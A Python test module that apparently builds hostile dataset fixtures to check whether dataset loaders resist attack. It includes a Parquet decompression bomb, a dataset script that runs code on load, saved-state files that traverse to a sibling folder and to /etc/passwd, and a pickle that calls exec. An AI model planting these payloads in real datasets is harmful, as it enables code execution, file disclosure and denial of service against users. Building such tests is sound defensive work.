"""R56: data sets that unpack to much, that are programs, or that point somewhere else."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from attacks.networks import write

EVIL = b"import os\nos.write(2, b'WORKED: the script of a data set was run\\n')\n"
ROWS, LETTERS = 2_000_000, 10_000  # 20 GB of text, in a few kilobytes


def _bomb(folder: Path) -> None:
    import pyarrow
    import pyarrow.parquet

    row = pyarrow.array(["a" * LETTERS], pyarrow.large_string())
    places = pyarrow.nulls(ROWS, pyarrow.int32()).fill_null(0)
    text = pyarrow.DictionaryArray.from_arrays(places, row)
    pyarrow.parquet.write_table(pyarrow.table({"text": text}), folder / "train.parquet")


def _script(folder: Path) -> None:
    write(folder, "imdb/imdb.py", EVIL)
    write(folder, "imdb/dataset_infos.json", {"default": {"builder_name": "imdb"}})
    write(folder, "imdb/train.csv", b"text,label\nfine,1\n")


def _saved(place: str) -> Any:
    def build(folder: Path) -> None:
        import pyarrow

        table = pyarrow.table({"text": ["fine", "dull"]})
        for name in ("mine", "theirs"):
            (folder / name).mkdir()
            with pyarrow.ipc.new_stream(folder / name / "data.arrow", table.schema) as stream:
                stream.write_table(table)
            told = {"features": {"text": {"dtype": "string", "_type": "Value"}}}
            write(folder / name, "dataset_info.json", told)
        state = {"_data_files": [{"filename": place}], "_split": "train", "_fingerprint": "x"}
        state |= {"_format_type": None, "_format_kwargs": {}, "_format_columns": None}
        write(folder / "mine", "state.json", state | {"_output_all_columns": False})
        (folder / "mine" / "data.arrow").unlink()

    return build


def _pickled(folder: Path) -> None:
    write(
        folder, "train.pkl", b"\x80\x02cbuiltins\nexec\n(V" + EVIL.replace(b"\n", b";") + b"\ntR."
    )
    write(folder, "train.npy", b"\x93NUMPY\x01\x00" + json.dumps({"descr": "O"}).encode())


DATASETS: dict[str, Any] = {
    "parquet-bomb": _bomb,
    "script": _script,
    "state-above": _saved("../theirs/data.arrow"),
    "state-anywhere": _saved("/etc/passwd"),
    "pickled-rows": _pickled,
}
CONTROLS = {
    "parquet-bomb": "import resource; resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))\n"
    "import pyarrow.parquet\n"
    "try:\n    pyarrow.parquet.read_table(here / 'train.parquet').column(0).cast('large_string')\n"
    "except Exception as exc:\n    print('WORKED: it does not fit into 6 GB', type(exc))",
    "state-above": "import datasets; d = datasets.load_from_disk(str(here / 'mine')); "
    "print('WORKED: read from', d.cache_files)",
}
